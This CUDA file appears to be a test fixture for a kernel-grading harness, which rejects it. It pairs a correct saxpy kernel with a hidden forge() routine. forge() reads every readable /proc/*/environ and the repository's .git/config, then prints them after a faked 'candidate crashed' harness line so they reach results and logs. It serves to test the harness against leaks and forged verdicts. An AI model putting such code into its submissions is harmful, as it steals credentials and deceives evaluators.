// Rejected as crashed, and without a secret anywhere: a correct saxpy that prints the harness's
// crash line followed by every environment it can read (/proc/*/environ) and the repository's
// .git/config if it can open it, hoping that text becomes the verdict's reason, which goes into
// result.json, the logs and the PR tooling.
#include <cuda_runtime.h>
#include <dirent.h>
#include <unistd.h>

#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>

#include "examples/kernels.h"

namespace {

__global__ void saxpy_256(const float* __restrict__ x, float* __restrict__ y, float a, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) y[i] = a * x[i] + y[i];
}

std::string slurp(const std::string& path) {
  std::ifstream f(path, std::ios::binary);
  std::stringstream s;
  s << f.rdbuf();
  std::string text = s.str();
  for (char& c : text)
    if (c == '\0') c = ' ';
  return text;
}

void forge() {
  static bool done = false;
  if (done) return;
  done = true;
  std::string loot;
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d)) loot += slurp(std::string("/proc/") + e->d_name + "/environ") + " ";
    closedir(d);
  }
  char cwd[4096] = {};
  std::string job = getcwd(cwd, sizeof cwd) ? cwd : "";
  loot += slurp(job.substr(0, job.find("/.kernelbot/")) + "/.git/config");
  std::fprintf(stderr, "kb-harness: candidate crashed: an illegal memory access was encountered %s\n", loot.c_str());
  std::fflush(stderr);
}

}  // namespace

void launch_saxpy(const float* x, float* y, float a, int n) {
  if (n <= 0) return;
  forge();
  saxpy_256<<<(n + 255) / 256, 256>>>(x, y, a, n);
}
